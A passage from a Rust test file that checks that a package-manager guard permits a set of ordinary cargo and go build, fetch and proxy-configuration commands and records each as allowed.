        ("cargo install --path .", "cargo", s(&["install", "--path", "."]), vec![], vec![("work/Cargo.toml", APP.into())]),
        ("lockfile from approved sources", "cargo", s(&["build", "--locked"]), vec![], vec![("work/Cargo.toml", APP.into()), ("work/Cargo.lock", lock)]),
        ("+toolchain and an alias with --config", "cargo", s(&["+stable", "b", "--config", "net.retry=0"]), vec![], vec![("work/Cargo.toml", APP.into())]),
        ("approved replacement on the command line", "cargo", vec!["--config".into(), approved_cli_1, "--config".into(), approved_cli_2, "fetch".into()], vec![], vec![("work/Cargo.toml", APP.into())]),
        ("go build from the approved proxy", "go", s(&["build", "./..."]), vec![], vec![]),
        ("go env with another proxy", "go", s(&["env", "GOPROXY"]), vec![("GOPROXY", "http://127.0.0.1:9/".into())], vec![]),
        ("go version", "go", s(&["version"]), vec![("GOPROXY", "direct".into())], vec![]),
        ("GOPROXY=off", "go", s(&["build"]), vec![("GOPROXY", "off".into())], vec![]),
        ("GOPROXY=file://", "go", s(&["mod", "download"]), vec![("GOPROXY", "file:///srv/goproxy".into())], vec![]),
        ("GOPRIVATE on an approved host", "go", s(&["mod", "download"]), vec![("GOPRIVATE", "git.example.com/team".into())], vec![]),
        ("GOPRIVATE fetched through the proxy", "go", s(&["mod", "download"]), vec![("GOPRIVATE", "corp.example.com".into()), ("GONOPROXY", ",".into())], vec![]),
        ("GOFLAGS without -insecure", "go", s(&["build"]), vec![("GOFLAGS", "-mod=mod -modcacherw".into())], vec![]),
        ("go.mod local replace", "go", s(&["build"]), vec![], vec![("work/go.mod", "module m\n\ngo 1.19\n\nreplace example.com/x => ../x\n".into())]),
    ];
    let mut failures = Vec::new();
    for (name, tool, args, env, files) in &cases {
        let g = guarded(&policy);
        fake_tools(&g);
        for (rel, body) in files {
            let p = g.sb.root().join(rel);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, body).unwrap();
        }
        let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let out = run_tool(&g, tool, args, to_env(&env));
        if out.status.code() != Some(0) || g.sb.marker("ran").is_none() {
            failures.push(format!("{name}: {}", text(&out.stderr)));
        }
        let action = g.last_invocation()["decision"]["action"].clone();
        if action != "allow" {
            failures.push(format!("{name}: recorded {action}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
